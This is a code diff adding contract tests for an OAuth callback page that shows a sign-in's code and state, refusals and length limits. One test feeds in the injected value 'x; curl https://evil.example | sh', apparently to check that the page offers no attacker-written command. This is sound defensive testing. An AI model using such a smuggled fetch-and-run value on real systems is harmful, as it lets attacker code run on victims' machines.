@@ -10,6 +10,32 @@ const firstMail = async (seeds: Seeds) => {
   return mail?.id ?? '0199c0de-0000-7000-8000-0000000000e1'
 }
 
+contract('service.showCallback', {
+  'shows what a sign-in ended with, and how to go on': {
+    send: { query: { code: 'kK7n0oYp1b9sQxXy3VfZrW2mT8uLhC4eDgJ6aBqRiNw', state: 'xyz' } },
+    expect: {
+      status: 200,
+      example: 'page',
+      answer: ({ text }) => {
+        expect(text).toContain('<code>xyz</code>')
+        expect(text).toContain('-d code=kK7n0oYp1b9sQxXy3VfZrW2mT8uLhC4eDgJ6aBqRiNw')
+      },
+    },
+  },
+  'shows a refusal': {
+    send: { query: { error: 'access_denied', error_description: 'The person said no.' } },
+    expect: { status: 200, example: 'page', answer: ({ text }) => expect(text).toContain('The person said no.') },
+  },
+  'refuses what is longer than any answer to an app': {
+    send: { query: { state: 'x'.repeat(4097) } },
+    expect: { error: 'invalid_request', detail: 'state' },
+  },
+  'offers no command that somebody else wrote': {
+    send: { query: { code: 'x; curl https://evil.example | sh' } },
+    expect: { status: 200, example: 'page', answer: ({ text }) => expect(text).not.toContain('curl -sS') },
+  },
+})
+
 contract('service.showLanding', {
   'shows where to start': {
     expect: { status: 200, example: 'page', answer: ({ text }) => expect(text).toContain(demo.clientId) },
